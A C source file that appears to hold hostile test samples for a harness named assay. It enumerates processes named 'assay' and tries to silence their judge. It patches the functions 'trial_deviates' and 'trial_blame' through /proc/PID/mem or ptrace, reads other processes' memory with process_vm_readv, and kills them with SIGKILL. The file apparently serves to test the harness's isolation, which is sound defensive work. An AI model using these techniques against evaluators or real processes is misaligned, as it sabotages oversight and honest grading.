/* reach.c: tricks with other processes of assay: silencing a judge in one of them. */
#include "device/mutants/hostile/hostile.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

int hostile_reached;

/* Calls `visit` with every process whose name begins with "assay". */
static void each_process(void (*visit)(int pid))
{
    DIR *processes = opendir("/proc");
    for (const struct dirent *entry; processes && (entry = readdir(processes));) {
        char path[300], name[32] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        FILE *file = atoi(entry->d_name) > 0 ? fopen(path, "r") : NULL;
        if (file && fgets(name, sizeof name, file) && strncmp(name, "assay", 5) == 0)
            visit(atoi(entry->d_name));
        if (file)
            fclose(file);
    }
    if (processes)
        closedir(processes);
}

static const char *const functions[] = {"trial_deviates", "trial_blame"};

/* Writes to memory of another process: the kernel writes to pages here that the process itself could not write. */
static void write_memory(int pid)
{
    unsigned char code[8];
    unsigned size = hostile_return(code);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int file = open(path, O_RDWR | O_CLOEXEC);
    for (int i = 0; i < 2 && file >= 0; i++) {
        unsigned long address = hostile_symbol(pid, functions[i]);
        if (address && pwrite(file, code, size, (off_t)address) == (ssize_t)size)
            hostile_reached = pid;
    }
    if (file >= 0)
        close(file);
}

static void through_proc(void)
{
    each_process(write_memory);
}

static void trace(int pid)
{
    int status;
    if (pid == getpid() || ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0)
        return;
    hostile_reached = pid;
    waitpid(pid, &status, __WALL);
    for (int i = 0; i < 2; i++) {
        unsigned char code[8];
        unsigned size = hostile_return(code);
        unsigned long address = hostile_symbol(pid, functions[i]);
        long word = address ? ptrace(PTRACE_PEEKTEXT, pid, address, NULL) : 0;
        memcpy(&word, code, size);
        if (address)
            ptrace(PTRACE_POKETEXT, pid, address, word);
    }
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void through_ptrace(void)
{
    each_process(trace);
}

/* Reads the memory around the stack pointers of other processes, as a device would to look for expected outputs. */
static void read_process(int pid)
{
    char path[64], line[512], byte;
    unsigned long from;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = pid == getpid() ? NULL : fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-", &from) != 1 || !strstr(line, " rw"))
            continue;
        struct iovec here = {&byte, 1}, there = {(void *)from, 1};
        if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1)
            hostile_reached = pid;
    }
    if (maps)
        fclose(maps);
}

static void through_vm(void)
{
    each_process(read_process);
}

static void kill_process(int pid)
{
    if (pid != getpid() && kill(pid, 0) == 0) {
        hostile_reached = pid;
        kill(pid, SIGKILL);
    }
}

static void through_signals(void)
{
    each_process(kill_process);
}

const struct trick reach_tricks[] = {
    {.name = "proc", .what = "silences the judge through /proc/PID/mem", .open = through_proc},
    {.name = "ptrace", .what = "silences the judge as its debugger", .open = through_ptrace},
    {.name = "process-vm", .what = "reads other processes by process_vm_readv()", .open = through_vm},
    {.name = "kill", .what = "kills the judge", .open = through_signals},
    {.name = NULL}};
